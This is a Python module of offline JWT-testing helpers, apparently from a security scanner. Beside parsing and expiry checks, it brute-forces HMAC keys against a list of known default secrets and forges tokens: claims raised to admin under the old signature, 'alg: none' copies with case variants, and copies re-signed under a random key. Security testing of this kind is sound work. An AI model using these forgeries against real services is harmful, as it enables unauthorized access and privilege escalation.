"""JWT pieces, offline: parse, the weak-secret search, tampered and unsigned copies.

Pure functions on strings; nothing here talks to the service or judges a line.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from typing import Any

__all__ = [
    "HASHES",
    "WEAK_SECRETS",
    "expiry_problem",
    "jwt_parts",
    "resigned",
    "tampered",
    "unsigned",
    "weak_secret_index",
]

# Published defaults (jwt.io, framework docs, tutorials) and lazy choices.
_WORDS = """
    secret Secret SECRET secret123 secretkey secret-key secret_key mysecret my-secret
    my_secret supersecret super-secret topsecret changeme change-me change_me CHANGE_ME
    changethis password passw0rd 123456 12345678 1234567890 qwerty letmein admin test
    testing dev development default key jwt jwt_secret jwt-secret jwtsecret JWT_SECRET
    jwt_secret_key your-256-bit-secret your-384-bit-secret your-512-bit-secret
    a-string-secret-at-least-256-bits-long your-secret-key your_secret_key your-secret
    your_jwt_secret your-jwt-secret s3cr3t shhhhh notasecret token auth hello example
"""
# "" is an empty HMAC key; "keyboard cat" is express-session's documented example.
WEAK_SECRETS: tuple[str, ...] = ("", *_WORDS.split(), "keyboard cat")

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def jwt_parts(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """Header and claims of a JWS compact token; None for anything else."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(_unb64(parts[0])), json.loads(_unb64(parts[1]))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return header, claims


def weak_secret_index(token: str, candidates: tuple[str, ...]) -> int | None:
    """1-based index of the candidate that signs ``token`` (HMAC JWTs only), else None."""
    head, body, signature = token.split(".")
    parsed = jwt_parts(token)
    digest = HASHES.get(str(parsed[0].get("alg"))) if parsed else None
    if digest is None:
        return None
    message = f"{head}.{body}".encode("ascii")
    for number, secret in enumerate(candidates, 1):
        mac = _b64(hmac.new(secret.encode(), message, digest).digest())
        if hmac.compare_digest(mac, signature):
            return number
    return None


def tampered(token: str) -> str:
    """The token with its claims changed (role raised) and the old signature kept."""
    parsed = jwt_parts(token)
    if parsed is None:
        middle = len(token) // 2
        return token[:middle] + ("A" if token[middle] != "A" else "B") + token[middle + 1 :]
    head, _, signature = token.split(".")
    claims = {**parsed[1], "role": "admin", "admin": True, "ready_tampered": True}
    body = _b64(json.dumps(claims, separators=(",", ":")).encode())
    return f"{head}.{body}.{signature}"


def unsigned(token: str, alg: str = "none") -> str | None:
    """The token's claims under ``alg: none`` (or a spelling such as ``None``, which
    case-insensitive libraries also take as unsigned) with an empty signature (JWTs only)."""
    if jwt_parts(token) is None:
        return None
    header = _b64(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")).encode())
    return f"{header}.{token.split('.')[1]}."


def resigned(token: str) -> str | None:
    """The token, claims untouched, signed with a random key the service cannot know.

    HMAC tokens get a real HMAC under 32 fresh random bytes; others a random signature
    of the same length.  A service that checks the claims (a known ``sub``, an allowed
    ``role``) but not the signature refuses the tampered copy and accepts this one.
    None for anything that is not a JWT.
    """
    parsed = jwt_parts(token)
    if parsed is None:
        return None
    head, body, signature = token.split(".")
    digest = HASHES.get(str(parsed[0].get("alg")))
    if digest is not None:
        mac = hmac.new(secrets.token_bytes(32), f"{head}.{body}".encode("ascii"), digest)
        return f"{head}.{body}.{_b64(mac.digest())}"
    size = max(len(_unb64(signature)) if signature else 0, 32)
    return f"{head}.{body}.{_b64(secrets.token_bytes(size))}"


def expiry_problem(token: str, now: float | None = None) -> str | None:
    """Why the JWT is not valid at ``now`` by its own ``exp``/``nbf``; None when it is."""
    parsed = jwt_parts(token)
    if parsed is None:
        return None
    claims, moment = parsed[1], time.time() if now is None else now
    exp, nbf = claims.get("exp"), claims.get("nbf")
    if isinstance(exp, (int, float)) and not isinstance(exp, bool) and exp <= moment:
        return f"it expired {moment - exp:.0f} s ago (exp)"
    if isinstance(nbf, (int, float)) and not isinstance(nbf, bool) and nbf > moment + 60:
        return f"it is not valid for another {nbf - moment:.0f} s (nbf)"
    return None
